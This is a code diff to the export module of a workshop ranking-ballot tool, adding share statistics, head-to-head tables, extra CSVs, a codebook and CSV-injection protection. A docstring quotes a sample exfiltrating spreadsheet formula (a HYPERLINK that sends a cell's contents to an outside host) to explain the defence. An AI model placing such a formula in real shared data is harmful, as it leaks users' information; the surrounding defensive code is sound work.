@@ -35,7 +35,7 @@ from typing import Any, Final
 from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
 
 from core import ballots, crypto, notes, results
-from core.breakdown import Breakdown, Role, breakdown
+from core.breakdown import Breakdown, Role, breakdown, points_share
 from core.db import Database
 from core.domain import Stage, WorkshopCode
 from core.errors import BeiduiError
@@ -47,8 +47,11 @@ from core.tally import (
     CountingId,
     IrvExplanation,
     MethodId,
+    Pairwise,
     TallyResult,
     instant_runoff_with_explanation,
+    pairwise,
+    position_counts,
     tally_all,
 )
 from core.workshops import WorkshopView, get_workshop
@@ -65,6 +68,14 @@ TALLY_CSV: Final = "tally.csv"
 NOTES_CSV: Final = "notes.csv"
 RECEIPTS_CSV: Final = "receipts.csv"
 BREAKDOWN_CSV: Final = "breakdown.csv"
+SHARES_CSV: Final = "shares.csv"
+ROLE_GRID_CSV: Final = "role_grid.csv"
+BALLOTS_LONG_CSV: Final = "ballots_long.csv"
+THEMES_CSV: Final = "themes.csv"
+SUMMARY_POINTS_CSV: Final = "summary_points.csv"
+CODEBOOK_CSV: Final = "codebook.csv"
+RESULTS_SCHEMA: Final = "results.schema.json"
+HEAD_TO_HEAD_CSV: Final = "head_to_head.csv"
 RESULTS_JSON: Final = "results.json"
 RESULTS_XLSX: Final = "results.xlsx"
 CHART_PNG: Final = "chart.png"
@@ -120,6 +131,54 @@ class Counts:
 
 
 @dataclass(frozen=True)
+class MethodShare:
+    """One method's shares of a set of ballots (the room, or one role group).
+
+    `points_pct`: its points as a percentage of all points given; `first_pct`: ballots
+    ranking it first, `chosen_pct`: ballots ranking it at all, both as a percentage of the
+    ballots; `average_score`: Slido's "average ranked score", the points it earned per
+    ballot (K for 1st … 1 for K-th, 0 when unranked), so between 0 and K. Percentages have
+    one decimal, the average two, rounded half to even, so files repeat byte for byte.
+    """
+
+    method: MethodId
+    points: int
+    points_pct: float
+    first_choices: int
+    first_pct: float
+    chosen: int
+    chosen_pct: float
+    average_score: float
+
+
+def method_shares(
+    rankings: Sequence[Sequence[MethodId]], methods: Sequence[MethodId], ballot_size: int
+) -> tuple[MethodShare, ...]:
+    """Every method's shares, in `methods` order (callers sort as they show them)."""
+    counts = position_counts(rankings, methods, ballot_size)
+    n = len(rankings)
+    points = {m: sum(c * (ballot_size - i) for i, c in enumerate(counts[m])) for m in methods}
+    total = sum(points.values())
+
+    def pct(part: int, whole: int) -> float:
+        return round(100 * part / whole, 1) if whole else 0.0
+
+    return tuple(
+        MethodShare(
+            method=m,
+            points=points[m],
+            points_pct=pct(points[m], total),
+            first_choices=counts[m][0],
+            first_pct=pct(counts[m][0], n),
+            chosen=sum(counts[m]),
+            chosen_pct=pct(sum(counts[m]), n),
+            average_score=round(points[m] / n, 2) if n else 0.0,
+        )
+        for m in methods
+    )
+
+
+@dataclass(frozen=True)
 class ExportData:
     """Everything an export may contain, already safe to show in full.
 
@@ -132,10 +191,16 @@ class ExportData:
     tallies: Mapping[CountingId, TallyResult]
     irv: IrvExplanation
     robustness: tuple[Message, ...]
+    shares: tuple[MethodShare, ...]
+    """The whole room's shares, in the default counting's order."""
+    head_to_head: Pairwise
     breakdown: Breakdown
     questions: tuple[QuestionExport, ...]
     receipts: tuple[str, ...]
     counts: Counts
+    revealed_on: str
+    """The day the ballots were revealed (ISO date, UTC): the workshop's date in the
+    report. A day, never a time: nothing finer may follow the room's timeline."""
 
     @property
     def default_result(self) -> TallyResult:
@@ -155,10 +220,13 @@ def k_safe_breakdown(
     *,
     k: int,
     counting: CountingId = DEFAULT_COUNTING,
+    offered: Sequence[Role] = (),
 ) -> Breakdown:
     """The role breakdown exports use: `core.breakdown.breakdown`, which also resists
     differencing (what it does not show is empty or holds at least k ballots)."""
-    return breakdown(ballots_with_roles, methods, ballot_size, k=k, counting=counting)
+    return breakdown(
+        ballots_with_roles, methods, ballot_size, k=k, counting=counting, offered=offered
+    )
 
 
 def collect(db: Database, code: WorkshopCode) -> ExportData:
@@ -173,12 +241,22 @@ def collect(db: Database, code: WorkshopCode) -> ExportData:
     methods = w.method_keys
     tallies = tally_all(rankings, methods, w.ballot_size)
     _, irv = instant_runoff_with_explanation(rankings, methods, w.ballot_size)
-    robustness = tuple(summarize(tallies)) if rankings else ()
+    head_to_head = pairwise(rankings, methods, w.ballot_size)
+    # "Close" = a lead no bigger than what one ballot's first choice is worth (K points).
+    robustness = (
+        tuple(summarize(tallies, close_within=w.ballot_size, pairwise=head_to_head))
+        if rankings
+        else ()
+    )
+    order = tallies[DEFAULT_COUNTING].order
+    by_method = {s.method: s for s in method_shares(rankings, methods, w.ballot_size)}
+    shares = tuple(by_method[m] for m in order)
     safe = k_safe_breakdown(
         sorted(with_roles, key=lambda pair: (pair[0] or "", pair[1])),
         methods,
         w.ballot_size,
         k=w.anonymity_k,
+        offered=[r.key for r in w.roles],
     )
     questions = tuple(_question(db, w.code, q.position, q.text.zh, q.text.en) for q in w.questions)
     cards = ballots.card_counts(db, w.code)
@@ -188,11 +266,25 @@ def collect(db: Database, code: WorkshopCode) -> ExportData:
         tallies=tallies,
         irv=irv,
         robustness=robustness,
+        shares=shares,
+        head_to_head=head_to_head,
         breakdown=safe,
         questions=questions,
         receipts=tuple(sorted(results.receipts(db, w.code))),
         counts=Counts(len(rankings), cards.issued, cards.spent),
+        revealed_on=_revealed_on(db, w.code),
     )
+
+
+def _revealed_on(db: Database, code: WorkshopCode) -> str:
+    from sqlalchemy import select
+
+    from core.models import Workshop
+
+    with db.read.begin() as session:
+        changed = session.scalar(select(Workshop.stage_changed_at).where(Workshop.code == code))
+    # Revealed is the last stage, so the last stage change is the reveal (minute precision).
+    return changed.date().isoformat() if changed is not None else ""
 
 
 def _question(db: Database, code: WorkshopCode, position: int, zh: str, en: str) -> QuestionExport:
@@ -221,7 +313,7 @@ def _note_order(n: NoteRow) -> tuple[int, bool, str, int, str, bool]:
 
 # --- tables (shared by CSV, Excel and the report) -----------------------------------------
 
-Cell = str | int | bool
+Cell = str | int | float | bool
 
 
 @dataclass(frozen=True)
@@ -286,6 +378,55 @@ def tally_table(data: ExportData, lang: str) -> Table:
     )
 
 
+def shares_table(data: ExportData, lang: str) -> Table:
+    """Per method, in the default counting's order: points, shares, average ranked score."""
+    labels = data.labels(lang)
+    names = (
+        "method",
+        "method_label",
+        "points",
+        "points_pct",
+        "first_choices",
+        "first_pct",
+        "chosen",
+        "chosen_pct",
+        "average_score",
+    )
+    rows = tuple(
+        (
+            s.method,
+            labels[s.method],
+            s.points,
+            s.points_pct,
+            s.first_choices,
+            s.first_pct,
+            s.chosen,
+            s.chosen_pct,
+            s.average_score,
+        )
+        for s in data.shares
+    )
+    headers = ("method_key", "method", *names[2:])
+    return Table(names, tuple(_h(n, lang, k=data.workshop.ballot_size) for n in headers), rows)
+
+
+def head_to_head_table(data: ExportData, lang: str) -> Table:
+    """Every pair of methods once (the better-placed one first): ballots preferring each."""
+    labels = data.labels(lang)
+    pw = data.head_to_head
+    order = data.default_result.order
+    rows = []
+    for i, a in enumerate(order):
+        for b in order[i + 1 :]:
+            ia, ib = pw.methods.index(a), pw.methods.index(b)
+            rows.append(
+                (a, labels[a], b, labels[b], pw.prefer[ia][ib], pw.prefer[ib][ia], pw.margin(a, b))
+            )
+    names = ("method_a", "method_a_label", "method_b", "method_b_label", "a_over_b", "b_over_a")
+    keys = (*names, "margin")
+    return Table(keys, tuple(_h(n, lang) for n in keys), tuple(rows))
+
+
 def notes_table(data: ExportData, lang: str) -> Table:
     """Notes by question, theme, dots (most first), text; hidden ones flagged, not dropped."""
     rows = tuple(
@@ -300,6 +441,50 @@ def notes_table(data: ExportData, lang: str) -> Table:
     )
 
 
+def ballots_long_table(data: ExportData, lang: str) -> Table:
+    """Tidy ballots: one row per opened ballot x rank. `ballot` numbers the ballots in
+    their sorted (content) order, so it says nothing about when any ballot was cast."""
+    labels = data.labels(lang)
+    rows = tuple(
+        (number, rank, method, labels.get(method, method), len(ranking))
+        for number, ranking in enumerate(data.rankings, start=1)
+        for rank, method in enumerate(ranking, start=1)
+    )
+    keys = ("ballot", "rank", "method", "method_label", "ballot_length")
+    headers = ("ballot_no", "rank", "method_key", "method", "ballot_length")
+    return Table(keys, tuple(_h(n, lang) for n in headers), rows)
+
+
+def themes_table(data: ExportData, lang: str) -> Table:
+    """Per question and theme (facilitator order): its visible notes and their dots."""
+    rows = tuple(
+        (
+            q.position + 1,
+            q.text(lang),
+            theme,
+            sum(1 for n in q.notes if n.theme == theme and not n.is_hidden),
+            sum(n.dots for n in q.notes if n.theme == theme and not n.is_hidden),
+        )
+        for q in data.questions
+        for theme in q.themes
+    )
+    keys = ("question", "question_text", "theme", "notes", "dots")
+    headers = ("question_no", "question", "theme", "notes", "dots")
+    return Table(keys, tuple(_h(n, lang) for n in headers), rows)
+
+
+def summary_points_table(data: ExportData, lang: str) -> Table:
+    """Per question, its summary points in the facilitator's order."""
+    rows = tuple(
+        (q.position + 1, q.text(lang), number, point)
+        for q in data.questions
+        for number, point in enumerate(q.summary_points, start=1)
+    )
+    keys = ("question", "question_text", "point", "text")
+    headers = ("question_no", "question", "point_no", "text")
+    return Table(keys, tuple(_h(n, lang) for n in headers), rows)
+
+
 def receipts_table(data: ExportData, lang: str) -> Table:
     return Table(("receipt",), (_h("receipt", lang),), tuple((r,) for r in data.receipts))
 
@@ -311,7 +496,8 @@ def group_name(role: Role | None, data: ExportData, lang: str) -> str:
 
 
 def breakdown_table(data: ExportData, lang: str) -> Table:
-    """The k-safe breakdown (default counting): group, its ballots, rank, method, score."""
+    """The k-safe breakdown (default counting): group, its ballots, rank, method, score,
+    the method's share of the group's points and its average ranked score in the group."""
     labels = data.labels(lang)
     rows = tuple(
         (
@@ -322,37 +508,88 @@ def breakdown_table(data: ExportData, lang: str) -> Table:
             row.method,
             labels[row.method],
             row.score,
+            points_share(g.result, row.method),
+            round(row.score / g.ballot_count, 2),
             row.is_tied,
         )
         for g in data.breakdown.groups
         for row in g.result.rows()
     )
-    return Table(
-        ("group", "group_label", "ballots", "rank", "method", "method_label", "score", "tied"),
-        tuple(
-            _h(n, lang)
-            for n in (
-                "group",
-                "group",
-                "ballots",
-                "rank",
-                "method_key",
-                "method",
-                "score",
-                "tied",
-            )
-        ),
-        rows,
+    keys = (
+        "group",
+        "group_label",
+        "ballots",
+        "rank",
+        "method",
+        "method_label",
+        "score",
+        "points_pct",
+        "average_score",
+        "tied",
     )
+    headers = ("group_key", "group", *keys[2:4], "method_key", "method", *keys[6:])
+    k = data.workshop.ballot_size
+    return Table(keys, tuple(_h(n, lang, k=k) for n in headers), rows)
+
+
+def role_grid_table(data: ExportData, lang: str) -> Table:
+    """Methods (rows, the room's order) x shown groups (columns): each method's share (%)
+    of the group's points, with the whole room last for comparison."""
+    labels = data.labels(lang)
+    groups = data.breakdown.groups
+    room = {s.method: s.points_pct for s in data.shares}
+    rows: tuple[tuple[Cell, ...], ...] = tuple(
+        (m, labels[m], *(points_share(g.result, m) for g in groups), room[m])
+        for m in data.default_result.order
+    )
+    keys = ("method", "method_label", *(g.role or OTHER_GROUP for g in groups), "room")
+    headers = (
+        _h("method_key", lang),
+        _h("method", lang),
+        *(
+            t(
+                "export.roles.group_column",
+                lang,
+                group=group_name(g.role, data, lang),
+                n=g.ballot_count,
+            )
+            for g in groups
+        ),
+        t("export.roles.room_column", lang, n=data.counts.ballots),
+    )
+    return Table(keys, headers, rows)
 
 
 # --- CSV ----------------------------------------------------------------------------------
+
+FORMULA_TRIGGERS: Final = ("=", "+", "-", "@", "\t", "\r")
+"""First characters that make Excel, LibreOffice or Google Sheets read a cell as a formula
+(OWASP "CSV injection"): `=HYPERLINK("https://x/?leak="&A1, "…")` in an anonymous note
+would send another cell's contents out when clicked."""
+
+
+def is_formula_like(text: str) -> bool:
+    """Whether a spreadsheet would treat `text` as a formula rather than as text."""
+    return text.startswith(FORMULA_TRIGGERS)
+
+
+def neutralise_csv_text(text: str) -> str:
+    """A CSV cell a spreadsheet shows as text: OWASP's leading apostrophe when needed.
+
+    Every typed text (notes, themes, summary points, method and role names, the workshop
+    name) passes through here; numbers are written by `_csv_cell` and never start with a
+    trigger (scores are not negative). The apostrophe is what Excel itself stores when a
+    person types '=…, so the text reads back unchanged after it.
+    """
+    return "'" + text if is_formula_like(text) else text
 
 
 def _csv_cell(value: Cell) -> str:
     if isinstance(value, bool):
         return "true" if value else "false"
-    return str(value)
+    if isinstance(value, int | float):
+        return str(value)
+    return neutralise_csv_text(value)
 
 
 def table_to_csv(table: Table) -> bytes:
@@ -364,15 +601,95 @@ def table_to_csv(table: Table) -> bytes:
     return buffer.getvalue().encode("utf-8-sig")
 
 
+CSV_TABLES: Final[Mapping[str, Callable[[ExportData, str], Table]]] = {
+    RANKINGS_CSV: rankings_table,
+    BALLOTS_LONG_CSV: ballots_long_table,
+    TALLY_CSV: tally_table,
+    SHARES_CSV: shares_table,
+    HEAD_TO_HEAD_CSV: head_to_head_table,
+    BREAKDOWN_CSV: breakdown_table,
+    ROLE_GRID_CSV: role_grid_table,
+    NOTES_CSV: notes_table,
+    THEMES_CSV: themes_table,
+    SUMMARY_POINTS_CSV: summary_points_table,
+    RECEIPTS_CSV: receipts_table,
+}
+"""Every CSV file and the table it holds, in the codebook's order."""
+
+
 def build_csv(data: ExportData, lang: str) -> dict[str, bytes]:
-    """The CSV files by name."""
-    return {
-        RANKINGS_CSV: table_to_csv(rankings_table(data, lang)),
-        TALLY_CSV: table_to_csv(tally_table(data, lang)),
-        NOTES_CSV: table_to_csv(notes_table(data, lang)),
-        RECEIPTS_CSV: table_to_csv(receipts_table(data, lang)),
-        BREAKDOWN_CSV: table_to_csv(breakdown_table(data, lang)),
-    }
+    """The CSV files by name, and the codebook describing every column of each."""
+    files = {name: table_to_csv(build(data, lang)) for name, build in CSV_TABLES.items()}
+    files[CODEBOOK_CSV] = table_to_csv(codebook_table(data, lang))
+    return files
+
+
+_COLUMN_TYPES: Final[Mapping[str, str]] = {
+    **dict.fromkeys(
+        (
+            "rank",
+            "score",
+            "dots",
+            "question",
+            "ballots",
+            "points",
+            "first_choices",
+            "chosen",
+            "a_over_b",
+            "b_over_a",
+            "margin",
+            "ballot",
+            "ballot_length",
+            "notes",
+            "point",
+        ),
+        "integer",
+    ),
+    **dict.fromkeys(("points_pct", "first_pct", "chosen_pct", "average_score", "room"), "number"),
+    **dict.fromkeys(("tied", "hidden"), "boolean"),
+    **dict.fromkeys(("method", "method_a", "method_b", "counting", "group"), "code"),
+}
+"""Each column's type; every other column is text. A role-grid group column is a number."""
+
+
+def _values(column: str, data: ExportData, lang: str) -> str:
+    """The values a coded column takes, "code = meaning; …" (empty for free columns)."""
+    sep = "; "
+    if column in {"method", "method_a", "method_b"} or column.startswith("rank_"):
+        if column.endswith("_label"):
+            return ""
+        return sep.join(f"{k} = {v}" for k, v in data.labels(lang).items())
+    if column == "counting":
+        return sep.join(f"{c} = {_counting_name(c, lang)}" for c in COUNTING_METHODS)
+    if column == "group":
+        groups = [g.role for g in data.breakdown.groups]
+        return sep.join(f"{g or OTHER_GROUP} = {group_name(g, data, lang)}" for g in groups)
+    if column == "question":
+        return sep.join(f"{q.position + 1} = {q.text(lang)}" for q in data.questions)
+    if column in {"tied", "hidden"}:
+        return "true; false"
+    return ""
+
+
+def codebook_table(data: ExportData, lang: str) -> Table:
+    """Every column of every CSV file: its type, what it means, and the values it takes."""
+    rows: list[tuple[Cell, ...]] = []
+    for name, build in CSV_TABLES.items():
+        table = build(data, lang)
+        for key, header in zip(table.keys, table.headers, strict=True):
+            if key.startswith("rank_"):
+                generic = "rank_n_label" if key.endswith("_label") else "rank_n"
+                n = key.split("_")[1]
+                kind = "text" if key.endswith("_label") else "code"
+                meaning = t(f"export.codebook.{generic}", lang, n=n)
+            elif name == ROLE_GRID_CSV and key not in {"method", "method_label", "room"}:
+                kind, meaning = "number", t("export.codebook.group_share", lang, group=header)
+            else:
+                kind = _COLUMN_TYPES.get(key, "text")
+                meaning = t(f"export.codebook.{key}", lang, k=data.workshop.ballot_size)
+            rows.append((name, key, header, kind, meaning, _values(key, data, lang)))
+    keys = ("file", "column", "header", "type", "description", "values")
+    return Table(keys, tuple(_h(f"codebook_{k}", lang) for k in keys), tuple(rows))
 
 
 # --- JSON ---------------------------------------------------------------------------------
@@ -403,6 +720,7 @@ def json_document(data: ExportData) -> dict[str, Any]:
             "anonymity_k": w.anonymity_k,
             "is_open_mode": w.is_open_mode,
             "is_live_results": w.is_live_results,
+            "revealed_on": data.revealed_on,
         },
         "questions": [
             {
@@ -444,11 +762,38 @@ def json_document(data: ExportData) -> dict[str, Any]:
         },
         "ballots": [list(r) for r in data.rankings],
         "tallies": {c: _result_json(r) for c, r in data.tallies.items()},
+        "shares": [
+            {
+                "method": s.method,
+                "points": s.points,
+                "points_pct": s.points_pct,
+                "first_choices": s.first_choices,
+                "first_pct": s.first_pct,
+                "chosen": s.chosen,
+                "chosen_pct": s.chosen_pct,
+                "average_score": s.average_score,
+            }
+            for s in data.shares
+        ],
+        "head_to_head": {
+            "methods": list(data.head_to_head.methods),
+            "prefer": [list(row) for row in data.head_to_head.prefer],
+        },
         "breakdown": {
             "k": data.breakdown.k,
             "counting": data.breakdown.counting,
+            "roles_offered": [r.key for r in w.roles],
+            "roles_shown": list(data.breakdown.plan.shown),
+            "roles_too_small": list(data.breakdown.plan.too_small),
+            "roles_merged_against_subtraction": list(
+                data.breakdown.plan.merged_against_subtraction
+            ),
             "groups": [
-                {"group": g.role or OTHER_GROUP, **_result_json(g.result)}
+                {
+                    "group": g.role or OTHER_GROUP,
+                    **_result_json(g.result),
+                    "points_pct": {m: points_share(g.result, m) for m in g.result.scores},
+                }
                 for g in data.breakdown.groups
             ],
         },
@@ -516,6 +861,14 @@ def signing_fingerprint(signing_key: Ed25519PrivateKey) -> str:
     return crypto.fingerprint(signing_key.public_key())
 
 
+def instance_fingerprint(data_dir: Path) -> str:
+    """The fingerprint every bundle of this instance is signed with, for public pages (the
+    receipts page, the projector), so a third party can pin the key an evaluator's bundle
+    must carry: `python -m core.verify BUNDLE --fingerprint XXXX-…`. The key is created
+    here if no export made it yet; only its public half's fingerprint leaves."""
+    return signing_fingerprint(load_or_create_signing_key(signing_key_path(data_dir)))
+
+
 # --- the bundle ---------------------------------------------------------------------------
 
 
@@ -530,7 +883,7 @@ def build_files(
     on_progress: ProgressCallback | None = None,
 ) -> dict[str, bytes]:
     """Every exported file by name (not the manifest, signature or key)."""
-    from core import export_report, export_xlsx
+    from core import export_report, export_schema, export_xlsx
 
     lang = normalize_language(lang)
 
@@ -542,9 +895,11 @@ def build_files(
     files = build_csv(data, lang)
     step(0.2, "json")
     files[RESULTS_JSON] = build_json(data)
+    files[RESULTS_SCHEMA] = export_schema.build_schema()
     step(0.25, "chart")
     chart = export_report.chart_png(data.default_result, data.labels(lang), lang)
     files[CHART_PNG] = chart
+    files.update(export_report.chart_files(data))
     step(0.4, "xlsx")
     files[RESULTS_XLSX] = export_xlsx.build_xlsx(data, lang, chart)
     step(0.55, "html")
